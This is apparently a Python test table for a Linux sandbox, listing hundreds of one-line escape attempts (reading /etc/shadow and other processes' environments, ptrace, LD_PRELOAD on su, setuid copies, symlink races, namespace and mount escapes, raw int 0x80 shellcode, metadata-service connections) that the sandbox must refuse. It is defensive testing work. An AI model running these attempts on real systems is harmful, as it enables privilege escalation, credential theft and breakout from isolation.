# ruff: noqa: E501 - one attempt a line
"""Small attempts to leave a sandbox, one a line: `flags name | expression`. An attempt is refused when it raises.

The expressions are evaluated inside the sandbox after PRELUDE, `F` holding facts about the outside (sandbox_runner.py).
Flags: `q` also in the quick run; `c` works outside a sandbox, so that the attempt itself is proven to be real, `C` there
as root only; `j` only where programs may be started (jobs, replicas, staging); `i` only in isolated processes, which
start none; `l` only where a listening socket is inherited (replicas); `u` is not enforced on jobs by Landlock alone,
where they share the platform's user, `r` on replicas neither: docs/sandbox.md names each.

An attempt whose target this machine does not have proves nothing: `find_missing_target` says so before it is made.
"""

import re
from pathlib import Path
from typing import NamedTuple

PRELUDE = r'''
import array, ctypes, ctypes.util, errno, fcntl, json, mmap, os, resource, signal, socket, stat, struct, subprocess, sys
import threading, time
libc = ctypes.CDLL(None, use_errno=True)
ROOT_HOME = os.path.expanduser("~root")
def inherited():
    """What descriptors the process began with, beside its streams and a replica's listening socket and broker."""
    expected = {"0", "1", "2", os.environ.get("FALAJ_LISTEN_FD", ""), os.environ.get("FALAJ_BROKER_FD", "")}
    names = [name for name in os.listdir("/proc/self/fd") if name not in expected]
    return [os.readlink(f"/proc/self/fd/{name}") for name in names if os.path.lexists(f"/proc/self/fd/{name}")]
INHERITED = inherited()
class Facts:
    def __init__(self, values): self.__dict__.update(values)
F = Facts(FACTS)
def call(name, *values):
    """A system call by name or number; OSError where the kernel refuses."""
    number = NUMBERS[name] if isinstance(name, str) else name
    words = [ctypes.c_long(value) if isinstance(value, int) else value for value in values]
    result = libc.syscall(ctypes.c_long(number), *words)
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code), str(name))
    return result
def check(text, wanted=None):
    """Something was learned: not an empty answer."""
    if not text or (wanted and wanted not in text):
        raise PermissionError("nothing was learned")
    return "learned"
def read(path, size=4096):
    with open(path, "rb") as file:
        return check(file.read(size))
def read_secret(path):
    with open(path, "rb") as file:
        return check(file.read(64), b"secret")
def write(path, data=b"x", mode="wb"):
    with open(path, mode) as file:
        file.write(data)
    return "written"
def open_for_writing(path):
    os.close(os.open(path, os.O_WRONLY))
    return "opened"
def can_create(path):
    """Create a file where none is and remove it at once: no trace stays where the sandbox fails."""
    os.close(os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY)); os.unlink(path)
    return "created"
def mount_point():
    os.makedirs(in_work("mount"), exist_ok=True)
    return os.fsencode(in_work("mount"))
def in_work(name): return os.path.join(WORK, name)
def cloned(flags):
    pid = call("clone", flags | signal.SIGCHLD, 0, 0, 0, 0)
    if not pid:
        os._exit(0)
    return os.waitpid(pid, 0)
def cloned3(flags):
    pid = call("clone3", struct.pack("<11Q", flags, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0), 88)
    if not pid:
        os._exit(0)
    return os.waitpid(pid, 0)
def connect(target, kind=socket.SOCK_STREAM, protocol=0, family=socket.AF_INET, answer=False):
    with socket.socket(family, kind, protocol) as outside:
        outside.settimeout(2)
        outside.connect(target)
        outside.send(b"stolen")
        return outside.recv(1) if answer else "sent"
def send_early(how):
    with socket.socket() as outside:
        if how == "sendto": outside.sendto(b"stolen", 0x20000000, ("127.0.0.1", F.tcp))
        else: outside.sendmsg([b"stolen"], [], 0x20000000, ("127.0.0.1", F.tcp))
        return "sent"
def opened_socket(family, kind=socket.SOCK_STREAM, protocol=0):
    socket.socket(family, kind, protocol).close()
    return "opened"
def any_kind(family):
    for kind in (1, 2, 3, 4, 5, 6):
        try: return opened_socket(family, kind)
        except OSError: pass
    raise PermissionError("no kind")
def own_terminal():
    leader, follower = os.openpty()
    return follower
def swapped(plant):
    """Exchange a link between a file of ours and a secret, and read meanwhile."""
    mine, link = in_work("mine"), in_work("swapped")
    write(mine, b"mine")
    ended = threading.Event()
    def swap():
        while not ended.is_set():
            for target in (mine, F.secret):
                try:
                    plant(target, link + ".new"); os.rename(link + ".new", link)
                except OSError: pass
    thread = threading.Thread(target=swap); thread.start()
    try:
        for _ in range(200):
            try:
                with open(link, "rb") as file:
                    if b"secret" in file.read(64): return "read"
            except OSError: pass
    finally:
        ended.set(); thread.join()
    raise PermissionError("never")
def become_root():
    if os.getuid(): return os.setresuid(0, 0, 0)
    with open("/proc/self/status") as file:
        if any(line.startswith("CapEff") and int(line.split()[1], 16) for line in file): return "root with rights"
    raise PermissionError("root without rights")
def run(*words, **more):
    done = subprocess.run(words, capture_output=True, timeout=10, **more)
    if done.returncode: raise PermissionError(done.stderr[:80])
    return done.stdout[:80]
def is_root(text):
    if b"uid=0" in text and os.getuid(): return "root"
    raise PermissionError("not root")
def set_owner(command, value):
    fcntl.fcntl(socket.socketpair()[0], command, value)
    return "owned"
def leaked():
    return check([target for target in INHERITED if not target.endswith("/fd")])
def old_calls():
    """The 32-bit door to the kernel: another table of numbers."""
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # mov eax, 310 (unshare); mov ebx, CLONE_NEWUSER; int 0x80; ret
    page.write(b"\x53\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\x5b\xc3")
    entry = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    if entry() < 0: raise PermissionError("refused")
    return "went through"
def dumped_core():
    pid = os.fork()
    if not pid: os.abort()
    return check(os.WCOREDUMP(os.waitpid(pid, 0)[1]) or None)
def renamed_over(path):
    write(in_work("draft"), b"{}"); os.rename(in_work("draft"), path)
    return "replaced"
def loosened():
    rules = struct.pack("<HBBI", 6, 0, 0, 0x7fff0000)
    instructions = ctypes.create_string_buffer(rules)
    program = struct.pack("<HxxxxxxQ", 1, ctypes.addressof(instructions))
    libc.prctl(22, 2, ctypes.create_string_buffer(program))
    return call("unshare", 0x10000000)
def by_handle():
    handle = ctypes.create_string_buffer(struct.pack("<II", 128, 0) + bytes(128))
    mount_id = ctypes.c_int()
    call("name_to_handle_at", -100, os.fsencode("/"), handle, ctypes.byref(mount_id), 0)
    return call("open_by_handle_at", os.open("/", os.O_RDONLY), handle, os.O_RDONLY)
def uring():
    return call("io_uring_setup", 4, ctypes.create_string_buffer(120))
def bpf_map():
    return call("bpf", 0, struct.pack("<IIIII", 2, 4, 4, 1, 0) + bytes(100), 120)
def perf(pid, cpu):
    attributes = struct.pack("<IIQ", 1, 112, 0) + bytes(96)
    return call("perf_event_open", attributes, pid, cpu, -1, 0)
def vm(name):
    data = ctypes.create_string_buffer(8)
    vector = struct.pack("<QQ", ctypes.addressof(data), 8)
    return call(name, F.pid, vector, 1, vector, 1, 0)
def memory_program():
    file = os.memfd_create("program")
    with open("/bin/true", "rb") as source: os.write(file, source.read())
    os.execve(file, ["true"], {})
def script():
    write(in_work("script"), b"#!/bin/sh\nexit 0\n"); os.chmod(in_work("script"), 0o755)
    return run(in_work("script"))
def planted_library():
    return is_root(run("/usr/bin/su", "-c", "id", env={"LD_PRELOAD": in_work("evil.so"), "PATH": "/usr/bin:/bin"}))
def set_id_copy():
    write(in_work("id"), open("/usr/bin/id", "rb").read()); os.chmod(in_work("id"), 0o6755)
    return is_root(run(in_work("id")))
def reconnected(accepted):
    """The inherited listening socket, or one it accepts, belongs to the machine's network: connect it elsewhere."""
    listener = socket.socket(fileno=os.dup(int(os.environ["FALAJ_LISTEN_FD"])))
    if accepted:
        caller = socket.create_connection(listener.getsockname(), 2)
        listener = listener.accept()[0]
    libc.connect(listener.fileno(), bytes(16), 16)  # AF_UNSPEC: disconnect
    listener.settimeout(2)
    listener.connect(("127.0.0.1", F.tcp))
    listener.send(b"stolen")
    return "sent"
def received_file():
    with socket.socket(socket.AF_UNIX) as outside:
        outside.settimeout(2)
        outside.connect(F.unix)
        return socket.recv_fds(outside, 1, 1)
def limits_raised(which):
    hard = resource.getrlimit(which)[1]
    resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    return "raised"
'''

ESCAPES = r"""
qc  read the platform's secret | read_secret(F.secret)
qc  list the platform's home | check(os.listdir(F.home), "keys")
qc  plant into the platform's home | write(F.home + "/planted")
c   append to the secret | write(F.secret, b"", "ab")
    truncate the secret by path | os.truncate(F.secret, 0)
    delete the secret | os.unlink(F.secret)
    rename the secret | os.rename(F.secret, F.secret + ".gone")
qc  hard link to the secret | os.link(F.secret, in_work("hard"))
qc  symbolic link to the secret | (os.symlink(F.secret, in_work("soft")), read_secret(in_work("soft")))
c   secret through /proc/self/root | read_secret("/proc/self/root" + F.secret)
c   secret through a climb | read_secret(WORK + "/.." * 30 + F.secret)
c   secret through a path descriptor | read_secret("/proc/self/fd/%d" % os.open(F.secret, os.O_PATH))
c   secret through its folder's descriptor | os.open("secret", os.O_RDONLY, dir_fd=os.open(F.home + "/keys", os.O_PATH))
c   secret through openat2 | call(437, -100, os.fsencode(F.secret), struct.pack("<QQQ", 0, 0, 0), 24)
cu  mode of the secret | os.chmod(F.secret, 0o644)
cu  mode of the secret by fchmodat2 | call("fchmodat2", -100, os.fsencode(F.secret), 0o644, 0)
    owner of the secret | os.chown(F.secret, 12345, 12345)
cu  times of the secret | os.utime(F.secret, (1, 1))
C   attribute of the secret | os.setxattr(F.secret, "user.x", b"x")
C   removed attribute of the secret | os.removexattr(F.secret, "user.x")
cu  watch on the secret's folder | call("inotify_add_watch", call("inotify_init1", 0), os.fsencode(F.home + "/keys"), 0xfff)
qC  fanotify | call("fanotify_init", 0, 0)
    fanotify mark | call("fanotify_mark", 0, 1, 2, -100, b"/")
qC  open by handle | by_handle()
C   name to handle | call("name_to_handle_at", -100, b"/", struct.pack("<II", 128, 0) + bytes(128), bytes(4), 0)
q   symlink race | swapped(os.symlink)
    hard-link race | swapped(os.link)
qc  another attempt's file | read_secret(F.other + "/note")
    another attempt's folder | write(F.other + "/planted")
    plant an attempt | os.mkdir(F.attempts + "/planted")
c   list the attempts | check(os.listdir(F.attempts), "other")
q   its own context | write(F.context)
    its own context by rename | renamed_over(F.context)
q   its own exit file | write(F.attempt + "/slot-0.exit")
    its own exit file by rename | renamed_over(F.attempt + "/slot-0.exit")
    its own exit file by link | os.symlink("/etc/hostname", F.attempt + "/slot-0.exit")
    its own pid file | write(F.attempt + "/slot-0.pid")
    its own stop file | write(F.attempt + "/stop")
    its own lock | open_for_writing(F.attempt + "/slot-0.lock")
    its own sandbox file | write(F.attempt + "/slot-0.cage")
    its own log by truncation | os.truncate(F.attempt + "/slot-0.log", 0)
    exchange of its folder | call(316, -100, os.fsencode(WORK), -100, os.fsencode(F.context), 2)
qC  the platform's code | can_create(F.sources + "/falaj/falaj_planted.txt")
C   a module of the interpreter | can_create(sys.prefix + "/lib/falaj_planted.txt")
C   a start-up file of the interpreter | can_create(F.site + "/falaj_planted.txt")
C   a program of the interpreter | can_create(sys.prefix + "/bin/falaj-planted")
qC  passwords | read("/etc/shadow")
    accounts | open_for_writing("/etc/passwd")
C   preloaded libraries | can_create("/etc/ld.so.falaj-planted")
    the loader's cache | open_for_writing("/etc/ld.so.cache")
C   scheduled commands | can_create("/etc/cron.d/falaj-planted")
    system programs | can_create("/usr/bin/falaj-planted")
C   root's keys | can_create(ROOT_HOME + "/.ssh-falaj-planted")
    root's shell | open_for_writing(ROOT_HOME + "/.bashrc")
C   root's home | check(os.listdir(ROOT_HOME), ".bashrc")
c   a file in /tmp of all | read_secret(F.tmp)
c   a file in /dev/shm of all | read_secret(F.shm)
c   services' sockets | check(os.listdir("/run"), "lock")
    logs of the machine | check(os.listdir("/var/log/private"))
q   a block device node | (os.mknod(in_work("disk"), 0o600 | stat.S_IFBLK, os.makedev(8, 0)), open(in_work("disk")))
    a character device node | (os.mknod(in_work("mem"), 0o600 | stat.S_IFCHR, os.makedev(1, 1)), open(in_work("mem")))
q   raw disks | [open_disk for name in os.listdir("/sys/block") for open_disk in [read("/dev/" + name)]] or 1 / 0
    /dev/mem | open("/dev/mem", "rb")
    /dev/port | open("/dev/port", "rb")
    /dev/kmsg | os.open("/dev/kmsg", os.O_WRONLY)
    /dev/kmsg reading | read("/dev/kmsg")
    /dev/console | open_for_writing("/dev/console")
    /dev/tty0 | open_for_writing("/dev/tty0")
    /dev/tty1 | open_for_writing("/dev/tty1")
    /dev/fuse | os.open("/dev/fuse", os.O_RDWR)
    /dev/kvm | os.open("/dev/kvm", os.O_RDWR)
    /dev/net/tun | os.open("/dev/net/tun", os.O_RDWR)
    /dev/loop-control | os.open("/dev/loop-control", os.O_RDWR)
    /dev/mapper/control | os.open("/dev/mapper/control", os.O_RDWR)
    /dev/uinput | os.open("/dev/uinput", os.O_RDWR)
    /dev/vhost-net | os.open("/dev/vhost-net", os.O_RDWR)
    /dev/vsock | os.open("/dev/vsock", os.O_RDONLY)
    /dev/hwrng | os.open("/dev/hwrng", os.O_RDONLY)
    /dev/userfaultfd | os.open("/dev/userfaultfd", os.O_RDWR)
    /dev/cpu/0/msr | os.open("/dev/cpu/0/msr", os.O_RDONLY)
    /dev/rtc0 | os.open("/dev/rtc0", os.O_RDONLY)
    /dev/snapshot | os.open("/dev/snapshot", os.O_RDONLY)
    /dev/autofs | os.open("/dev/autofs", os.O_RDONLY)
    /dev/btrfs-control | os.open("/dev/btrfs-control", os.O_RDONLY)
qc  environment of an outside process | read(f"/proc/{F.pid}/environ")
c   memory map of an outside process | read(f"/proc/{F.pid}/maps")
qC  memory of an outside process | os.open(f"/proc/{F.pid}/mem", os.O_RDWR)
c   files of an outside process | check(os.readlink(f"/proc/{F.pid}/fd/0"))
c   root of an outside process | os.listdir(f"/proc/{F.pid}/root/")
c   folder of an outside process | os.listdir(f"/proc/{F.pid}/cwd/")
c   program of an outside process | check(os.readlink(f"/proc/{F.pid}/exe"))
c   namespace of an outside process | os.open(f"/proc/{F.pid}/ns/net", os.O_RDONLY)
C   stack of an outside process | read(f"/proc/{F.pid}/syscall")
c   environment of the launcher | read(f"/proc/{F.launcher}/environ")
    environment of its parent | check(open(f"/proc/{os.getppid() or 10**7}/environ", "rb").read(), b"OUTSIDE_SECRET")
    environment of the first process | check(open("/proc/1/environ", "rb").read())
    root of the first process | read_secret("/proc/1/root" + F.secret)
    score of an outside process | write(f"/proc/{F.pid}/oom_score_adj", b"1000")
    its own score | write("/proc/self/oom_score_adj", b"-1000")
q   core pattern | open_for_writing("/proc/sys/kernel/core_pattern")
    module loader | open_for_writing("/proc/sys/kernel/modprobe")
    host name | open_for_writing("/proc/sys/kernel/hostname")
    forwarding | open_for_writing("/proc/sys/net/ipv4/ip_forward")
    caches | open_for_writing("/proc/sys/vm/drop_caches")
    binary formats | open_for_writing("/proc/sys/fs/binfmt_misc/register")
    pid limit | open_for_writing("/proc/sys/kernel/pid_max")
    ping range | open_for_writing("/proc/sys/net/ipv4/ping_group_range")
    magic keys | open_for_writing("/proc/sysrq-trigger")
    kernel memory | open("/proc/kcore", "rb")
    kernel messages | os.open("/proc/kmsg", os.O_RDONLY | os.O_NONBLOCK)
Cr  kernel timers | read("/proc/timer_list")
    interrupts | open_for_writing("/proc/irq/default_smp_affinity")
    user map | write("/proc/self/uid_map", b"0 0 1")
    clock offsets | write("/proc/self/timens_offsets", b"monotonic 1 0")
    helper of events | open_for_writing("/sys/kernel/uevent_helper")
    sleep state | open_for_writing("/sys/power/state")
    debug file system | os.listdir("/sys/kernel/debug/tracing")
    trace file system | check(os.listdir("/sys/kernel/tracing"))
    firmware variables | check(os.listdir("/sys/firmware/efi/efivars"))
    processor switch | open_for_writing("/sys/devices/system/cpu/cpu1/online")
    large pages | open_for_writing("/sys/kernel/mm/transparent_hugepage/enabled")
    loaded profiles | check(os.listdir("/sys/fs/bpf"))
q   cgroup of the machine | open_for_writing("/sys/fs/cgroup/cgroup.procs")
C   a cgroup of its own | (os.mkdir("/sys/fs/cgroup/falaj-planted"), os.rmdir("/sys/fs/cgroup/falaj-planted"))
    its own memory limit | [open_for_writing("/sys/fs/cgroup" + open("/proc/self/cgroup").read().split("::")[1].strip() + "/memory.max")]
qc  signal to an outside process | os.kill(F.pid, 0)
c   signal to an outside thread | call("tkill", F.pid, 0)
c   signal to an outside thread group | call("tgkill", F.pid, F.pid, 0)
c   queued signal to an outside process | call("rt_sigqueueinfo", F.pid, 0, struct.pack("<iii", 0, 0, -1) + bytes(116))
cu  handle of an outside process | os.pidfd_open(F.pid)
c   signal by handle | signal.pidfd_send_signal(os.open(f"/proc/{F.pid}", os.O_RDONLY), 0)
    signal to the launcher | os.kill(F.launcher, 0)
    signal to an outside group | os.killpg(F.pid, 0)
c   signals by file ownership | set_owner(8, F.pid)
c   signals by extended ownership | set_owner(15, struct.pack("<ii", 1, F.pid))
qC  trace an outside process | call("ptrace", 16, F.pid, 0, 0)
c   seize an outside process | call("ptrace", 0x4206, F.pid, 0, 0)
c   trace at all | call("ptrace", 0, 0, 0, 0)
q   read an outside process | vm("process_vm_readv")
    write an outside process | vm("process_vm_writev")
C   compare processes | call("kcmp", os.getpid(), F.pid, 0, 0, 0)
C   take a descriptor | call("pidfd_getfd", call("pidfd_open", F.pid, 0), 0, 0)
    advise an outside process | call("process_madvise", call("pidfd_open", F.pid, 0), struct.pack("<QQ", 0, 4096), 1, 21, 0)
c   cores of an outside process | os.sched_setaffinity(F.pid, os.sched_getaffinity(0))
c   priority of an outside process | os.setpriority(os.PRIO_PROCESS, F.pid, 5)
c   limits of an outside process | resource.prlimit(F.pid, resource.RLIMIT_CORE, (0, 0))
c   disk priority of an outside process | call("ioprio_set", 1, F.pid, 2 << 13 | 5)
c   scheduling of an outside process | os.sched_setscheduler(F.pid, os.SCHED_BATCH, os.sched_param(0))
    memory of an outside process moved | call("migrate_pages", F.pid, 1, struct.pack("<Q", 1), struct.pack("<Q", 1))
    group of an outside process | os.setpgid(F.pid, F.pid) if os.getpgid(F.pid) != F.pid else 1 / 0
qC  become root | become_root()
C   become another user | os.setresuid(12345, 12345, 12345)
C   become another group | os.setresgid(12345, 12345, 12345) if os.getgid() != 12345 else 1 / 0
C   take groups | os.setgroups([0, 42])
qC  take rights | call(126 if os.uname().machine == "x86_64" else 91, struct.pack("<II", 0x20080522, 0), struct.pack("<6I", 1 << 21, 1 << 21, 0, 0, 0, 0))
    take ambient rights | check(libc.prctl(47, 2, 21, 0, 0) == 0 or None)
    allow new privileges | check(libc.prctl(38, 0, 0, 0, 0) == 0 or None)
C   secure bits | check(libc.prctl(28, 1, 0, 0, 0) == 0 or None)
    its own memory layout | check(libc.prctl(35, 1, 4096, 0, 0) == 0 or None)
C   better priority | os.setpriority(os.PRIO_PROCESS, 0, -5)
C   real-time scheduling | os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10))
    core files | limits_raised(resource.RLIMIT_CORE)
c   a core dump to the machine's handler, which a limit of 0 does not stop | check(resource.getrlimit(resource.RLIMIT_CORE) != (1, 1) or None)
j   a core file | dumped_core()
j   set-user-id program | is_root(run("/usr/bin/su", "-c", "id", stdin=subprocess.DEVNULL))
j   set-user-id program with a library | planted_library()
j   set-user-id copy | set_id_copy()
qc  a set-user-ID mode | (write(in_work("sid")), os.chmod(in_work("sid"), 0o4755))
c   a set-group-ID mode | (write(in_work("sgid")), os.chmod(in_work("sgid"), 0o2755))
c   a set-user-ID mode by descriptor | os.fchmod(os.open(in_work("sid-fd"), os.O_CREAT | os.O_RDWR), 0o4755)
c   a set-user-ID mode by fchmodat2 | (write(in_work("sid-2")), call("fchmodat2", -100, os.fsencode(in_work("sid-2")), 0o4755, 0))
qc  a set-user-ID file at its creation | check(os.fstat(os.open(in_work("sid-new"), os.O_CREAT | os.O_RDWR, 0o4755)).st_mode & 0o4000)
c   a set-user-ID file at its creation by openat2 | call(437, -100, os.fsencode(in_work("sid-open2")), struct.pack("<QQQ", 0o102, 0o4755, 0), 24)
c   a set-user-ID file without a name | check(os.fstat(os.open(WORK, os.O_TMPFILE | os.O_RDWR, 0o4755)).st_mode & 0o4000)
c   a set-user-ID file as a node | os.mknod(in_work("sid-node"), stat.S_IFREG | 0o4755)
j   new user map helper | is_root(run("/usr/bin/newuidmap", str(os.getpid()), "0", "0", "1"))
j   sudo | is_root(run("/usr/bin/sudo", "-n", "id"))
qC  user namespace | call("unshare", 0x10000000)
C   mount namespace | call("unshare", 0x20000)
C   network namespace | call("unshare", 0x40000000)
C   process namespace | call("unshare", 0x20000000)
C   message namespace | call("unshare", 0x8000000)
C   name namespace | call("unshare", 0x4000000)
C   cgroup namespace | call("unshare", 0x2000000)
C   time namespace | call("unshare", 0x80)
    namespaces by the other numbering | call(0x40000000 + NUMBERS["unshare"], 0x10000000)
qC  clone into a user namespace | cloned(0x10000000)
C   clone into a network namespace | cloned(0x40000000)
C   clone into a mount namespace | cloned(0x20000)
C   clone into a process namespace | cloned(0x20000000)
C   clone into a cgroup namespace | cloned(0x2000000)
qC  clone3 into a user namespace | cloned3(0x10000000)
C   clone3 into a time namespace | cloned3(0x80)
C   enter a namespace | call("setns", os.open("/proc/self/ns/net", os.O_RDONLY), 0)
C   enter by a process handle | call("setns", call("pidfd_open", F.pid, 0), 0x40000000)
    list namespaces | call("listns", bytes(64), bytes(64), 8, 0)
C   its own filter first | loosened()
j   32-bit calls | old_calls()
qC  mount | call("mount", b"none", mount_point(), b"tmpfs", 0, 0)
C   bind mount | call("mount", os.fsencode(WORK), mount_point(), 0, 4096, 0)
qC  writable root | call("mount", b"none", b"/", 0, 32 | 4096, 0) if F.namespaced else 1 / 0
C   proc mount | call("mount", b"proc", mount_point(), b"proc", 0, 0)
    overlay mount | call("mount", b"overlay", mount_point(), b"overlay", 0, b"lowerdir=/")
    uncover /tmp | call("umount2", b"/tmp", 2) if F.namespaced else 1 / 0
    uncover the home | call("umount2", os.fsencode(F.home), 2)
    change root | os.chroot(WORK)
    pivot root | call("pivot_root", b"/", mount_point())
C   open tree | call("open_tree", -100, b"/", 1)
C   open tree with attributes | call("open_tree_attr", -100, b"/", 1, bytes(32), 32)
    move mount | call("move_mount", -100, os.fsencode(WORK), -100, mount_point(), 0)
C   open a file system | call("fsopen", b"tmpfs", 0)
    configure a file system | call("fsconfig", 0, 6, 0, 0, 0)
    make a mount | call("fsmount", 0, 0, 0)
C   pick a file system | call("fspick", -100, b"/", 0)
q   mount attributes | call("mount_setattr", -100, b"/", 0, struct.pack("<QQQQ", 0, 0x40, 0, 0), 32)
C   list mounts | call("listmount", struct.pack("<IIQQQ", 32, 0, 0xffffffffffffffff, 0, 0), bytes(64), 8, 0)
    show a mount | call("statmount", struct.pack("<IIQQQ", 32, 0, 1, 1, 0), bytes(512), 512, 0)
    quotas | call("quotactl", 0x800002 << 8, b"/dev/sda", 0, bytes(64))
    quotas by descriptor | call("quotactl_fd", os.open("/", os.O_RDONLY), 0x800002 << 8, 0, bytes(64))
    swap on | call("swapon", b"/none", 0)
    swap off | call("swapoff", b"/none")
    accounting | call("acct", b"/nonexistent/falaj")
    restart | call("reboot", 0xfee1dead, 672274793, 0x12345678, 0)
    another kernel | call("kexec_load", 0, 17, 0, 0)
    another kernel by file | call("kexec_file_load", -1, -1, 0, 0, 8)
    a module | call("init_module", bytes(64), 64, b"")
    a module by file | call("finit_module", os.open("/dev/null", os.O_RDONLY), b"", 0)
    remove a module | call("delete_module", b"falaj_none", 0o4000)
    kernel log | call("syslog", 3, bytes(64), 64)
    size of the kernel log | call("syslog", 10, 0, 0)
    clock | time.clock_settime(time.CLOCK_REALTIME, time.time())
    clock by settimeofday | call("settimeofday", struct.pack("<qq", int(time.time()), 0), 0)
    clock by adjtimex | call("adjtimex", struct.pack("<I", 1) + bytes(300))
    clock by clock_adjtime | call("clock_adjtime", 0, struct.pack("<I", 1) + bytes(300))
    name of the machine | socket.sethostname(os.uname().nodename)
    domain of the machine | call("setdomainname", b"(none)", 6)
    ports of the machine | call("ioperm", 0x80, 1, 1)
    all ports of the machine | call("iopl", 3)
    segments | call("modify_ldt", 0, bytes(64), 64)
    hang up | call("vhangup")
c   personality | call("personality", 0x0040000)
C   file system types | call("sysfs", 3)
    security label | call("lsm_set_self_attr", 100, bytes(64), 64, 0)
q   bpf | bpf_map()
    bpf program | call("bpf", 5, struct.pack("<IIQQ", 1, 0, 0, 0) + bytes(100), 120)
qC  performance events | perf(0, -1)
C   performance events of all | perf(-1, 0)
C   performance events of an outside process | perf(F.pid, -1)
qC  user faults | call("userfaultfd", 0)
qC  io_uring | uring()
    io_uring entry | call("io_uring_enter", 0, 0, 0, 0, 0, 0)
    io_uring register | call("io_uring_register", 0, 0, 0, 0)
q   session keyring | call("keyctl", 0, -3, 1)
    new session keyring | call("keyctl", 1, 0)
    add a key | call("add_key", b"user", b"planted", b"x", 1, -2)
    ask for a key | call("request_key", b"user", b"planted", 0, -4)
    directory cookies | call("lookup_dcookie", 0, bytes(64), 64)
    a call of tomorrow | call(471)
    a call of the far future | call(600)
qc  type into a terminal | fcntl.ioctl(own_terminal(), 0x5412, b"x")
    console requests | fcntl.ioctl(own_terminal(), 0x541C, b"\x06")
c   shared memory of outside | check(call("shmget", F.sysv, 0, 0) + 1)
    attach shared memory of outside | call("shmat", call("shmget", F.sysv, 0, 0), 0, 0)
c   semaphores of outside | check(call("semget", F.sysv, 1, 0) + 1)
c   messages of outside | check(call("msgget", F.sysv, 0) + 1)
    message queues of outside | call("mq_open", b"falaj-outside", 0, 0, 0)
q   descriptors of others | leaked()
qcu a descriptor from outside | received_file()
cu  socket of the platform | connect(F.unix, family=socket.AF_UNIX)
qc  abstract socket of outside | connect("\0" + F.abstract, family=socket.AF_UNIX)
qc  plain connection | connect(("127.0.0.1", F.tcp))
qc  multipath connection | connect(("127.0.0.1", F.tcp), protocol=262)
c   connection over IPv6 | connect(("::1", F.tcp, 0, 0), family=socket.AF_INET6)
qc  early data | send_early("sendto")
ql  the listening socket elsewhere | reconnected(False)
l   an accepted socket elsewhere | reconnected(True)
c   early data by message | send_early("sendmsg")
qc  datagram | connect(("127.0.0.1", F.udp), socket.SOCK_DGRAM, answer=True)
    name lookup | connect(("127.0.0.53", 53), socket.SOCK_DGRAM, answer=True)
    description of the machine | connect(("169.254.169.254", 80))
    another machine | connect(("192.0.2.1", 443))
    broadcast | connect(("255.255.255.255", 9), socket.SOCK_DGRAM, answer=True)
qC  raw socket | opened_socket(2, socket.SOCK_RAW, 1)
C   raw socket of all | opened_socket(2, socket.SOCK_RAW, 255)
C   raw socket over IPv6 | opened_socket(10, socket.SOCK_RAW, 58)
qC  packet socket | opened_socket(17, socket.SOCK_RAW, 0x300)
C   packet datagrams | opened_socket(17, socket.SOCK_DGRAM, 0x300)
    stream control | opened_socket(2, socket.SOCK_STREAM, 132)
C   light datagrams | opened_socket(2, socket.SOCK_DGRAM, 136)
    congested datagrams | opened_socket(2, 6, 33)
c   route changes | opened_socket(16, socket.SOCK_RAW, 6)
c   kernel events | opened_socket(16, socket.SOCK_RAW, 15)
C   audit messages | opened_socket(16, socket.SOCK_RAW, 9)
C   packet filters | opened_socket(16, socket.SOCK_RAW, 12)
C   generic netlink | opened_socket(16, socket.SOCK_RAW, 16)
C   socket tables | opened_socket(16, socket.SOCK_RAW, 4)
i   a program | os.execv("/bin/true", ["true"])
qi  a process | os.fork() or os._exit(0)
qi  a program in a process | run("/bin/true")
i   a shell | check(not os.system("exit 0") or None)
i   a spawned program | os.posix_spawn("/bin/true", ["true"], {})
i   a program in memory | memory_program()
i   a script | script()
i   a program by descriptor | call("execveat", os.open("/bin/true", os.O_PATH), b"", 0, 0, 0x1000)
i   a vforked process | call("vfork")
qi  an internet socket | opened_socket(2)
i   a datagram pair | socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
i   a listener | socket.create_server(("127.0.0.1", 0))
i   users of the machine | read("/etc/passwd")
i   the list of processes | check(os.listdir("/proc"))
i   the list of files | check(os.listdir("/"))
i   variables of the platform | check(os.environ.get("OUTSIDE_SECRET"))
"""
_OTHER_FAMILIES = [
    family for family in range(3, 47) if family not in (10, 16, 17)
]  # one attempt for each address family but unix, inet, inet6, netlink (some protocols) and packet


_PATH = re.compile(r'"(/(?:dev|proc|sys|etc|usr|run|var)/[^"{%]+)"')


class Escape(NamedTuple):
    """One attempt."""

    flags: str
    name: str
    expression: str


def list_escapes() -> list[Escape]:
    """Every attempt, in the order of the table."""
    lines = [line.partition("|") for line in ESCAPES.strip("\n").splitlines()]
    table = [Escape(head[:4].strip().replace(" ", ""), head[4:].strip(), body.strip()) for head, _, body in lines]
    families = [Escape("", f"socket of family {family}", f"any_kind({family})") for family in _OTHER_FAMILIES]
    return table + families


def find_missing_target(escape: Escape) -> str:
    """A file of the machine that the attempt needs and that does not exist, asked outside of the sandbox; else empty."""
    for path in map(Path, _PATH.findall(escape.expression)):
        needed = path.parent if "can_create" in escape.expression else path
        try:
            exists = needed.exists()
        except PermissionError:
            exists = True  # it lies where this user may not look
        if not exists:
            return str(needed)
    return ""
